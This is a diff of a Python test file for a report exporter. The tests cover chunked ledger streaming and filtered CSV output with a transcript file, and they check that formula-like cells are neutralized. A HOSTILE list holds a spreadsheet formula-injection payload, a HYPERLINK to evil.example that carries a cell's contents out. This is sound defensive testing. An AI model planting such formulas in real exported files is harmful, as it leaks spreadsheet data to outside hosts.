@@ -13,7 +13,7 @@ import pytest
 from tests.ledger_sample import sample_ledger
 from workbench.errors import UsageError
 from workbench.reports._cells import neutralize, neutralize_frame
-from workbench.reports.export import FORMATS, Report, companion, select, write
+from workbench.reports.export import FORMATS, Report, companion, write
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -147,9 +147,6 @@ def test_bad_options_name_the_option(tmp_path):
         write(Report(ledger), "csv", tmp_path / "nope" / "x.csv")
     with pytest.raises(UsageError, match="--output: .* is a folder"):
         write(Report(ledger), "csv", tmp_path)
-    with pytest.raises(UsageError, match="--queue: no queue 'nope' in the store"):
-        select(ledger, queue="nope")
-    assert len(select(ledger, queue="vip", agent=None)) == (ledger["queue"] == "vip").sum()
 
 
 def test_transcripts_are_read_for_many_interactions(store):
@@ -165,7 +162,7 @@ def test_transcripts_are_read_for_many_interactions(store):
             id=f"i-{k}",
             channel=Channel.MENTION,
             contact_id="7",
-            source_id=str(100 + k),
+            tweet_id=str(100 + k),
             arrived_at=at,
         )
         line = TranscriptEntry(it.id, at, EntryKind.INBOUND, "dana", f"help {k}")
@@ -215,3 +212,80 @@ def test_pdf_is_the_html_report_printed_by_chromium(tmp_path):
     pages = len(re.findall(rb"/Type\s*/Page[^s]", body))
     assert 2 <= pages <= 10  # the report, not its source text (which runs to a thousand pages)
     assert [p.name for p in tmp_path.iterdir()] == ["report.pdf"]
+
+
+def _fill(store, n=7):
+    from datetime import UTC, datetime, timedelta
+
+    from workbench.domain import Channel, Contact, EntryKind, Interaction, TranscriptEntry
+
+    at = datetime(2026, 3, 1, 12, tzinfo=UTC)
+    contact = Contact("7", "dana", "=Dana")
+    for k in range(n):
+        it = Interaction(
+            id=f"i-{k}",
+            channel=Channel.MENTION,
+            contact_id="7",
+            tweet_id=str(100 + k),
+            queue="vip" if k % 2 else "mentions",
+            arrived_at=at + timedelta(hours=k),
+        )
+        line = TranscriptEntry(it.id, it.arrived_at, EntryKind.INBOUND, "dana", f"=help {k}")
+        store.add_interaction(it, contact, line)
+        if k == 3:
+            later = it.arrived_at + timedelta(minutes=5)
+            for text, action in (("noted", "internal_note"), ("@dana on it", "reply")):
+                store.add_transcript(
+                    TranscriptEntry(it.id, later, EntryKind.OUTBOUND, "ann", text, action)
+                )
+
+
+def test_the_ledger_streams_in_chunks_equal_to_the_whole(store):
+    from workbench.analytics.ledger import chunks, ledger
+
+    _fill(store)
+    whole = ledger(store=store)
+    total, frames = chunks(store, size=3)
+    parts = list(frames)
+    assert total == len(whole) == 7 and [len(p) for p in parts] == [3, 3, 1]
+    joined = pd.concat([p.astype(object) for p in parts], ignore_index=True)
+    pd.testing.assert_frame_equal(joined, whole.astype(object))
+    later = whole["arrived_at"].iloc[2]
+    total, frames = chunks(store, start=later, where={"queue": "vip"})
+    assert total == 2 and list(next(frames)["interaction_id"]) == ["i-3", "i-5"]
+
+
+def test_the_command_streams_a_filtered_csv_with_its_transcript(store, tmp_path):
+    from tests.test_cli import workbench
+    from workbench.analytics.ledger import ledger
+
+    _fill(store)
+    (tmp_path / "out").mkdir()
+    out = tmp_path / "out" / "vip.csv"
+    done = workbench(
+        "report",
+        "--db-url",
+        store.url,
+        "--format",
+        "csv",
+        "--queue",
+        "vip",
+        "--from",
+        "2026-03-01T13:00",
+        "--transcript",
+        "--quiet",
+        "--output",
+        str(out),
+    )
+    assert done.returncode == 0, done.stderr
+    assert done.stdout == "" and "report" not in done.stderr  # --quiet: no bar, no summary
+    back = pd.read_csv(out)
+    expected = ledger(store=store)
+    expected = expected[expected["queue"] == "vip"]
+    assert list(back["interaction_id"]) == list(expected["interaction_id"]) == ["i-1", "i-3", "i-5"]
+    assert set(back["contact_name"]) == {"'=Dana"}  # a display name that would run: quoted
+    replies = dict(zip(back["interaction_id"], back["first_reply_text"], strict=True))
+    assert replies["i-3"] == "'@dana on it" and pd.isna(replies["i-1"])  # the brand's first reply
+    side = pd.read_csv(companion(out, "transcript"))
+    assert list(side["text"]) == ["'=help 1", "'=help 3", "noted", "'@dana on it", "'=help 5"]
+    assert sorted(p.name for p in out.parent.iterdir()) == ["vip.csv", "vip.transcript.csv"]
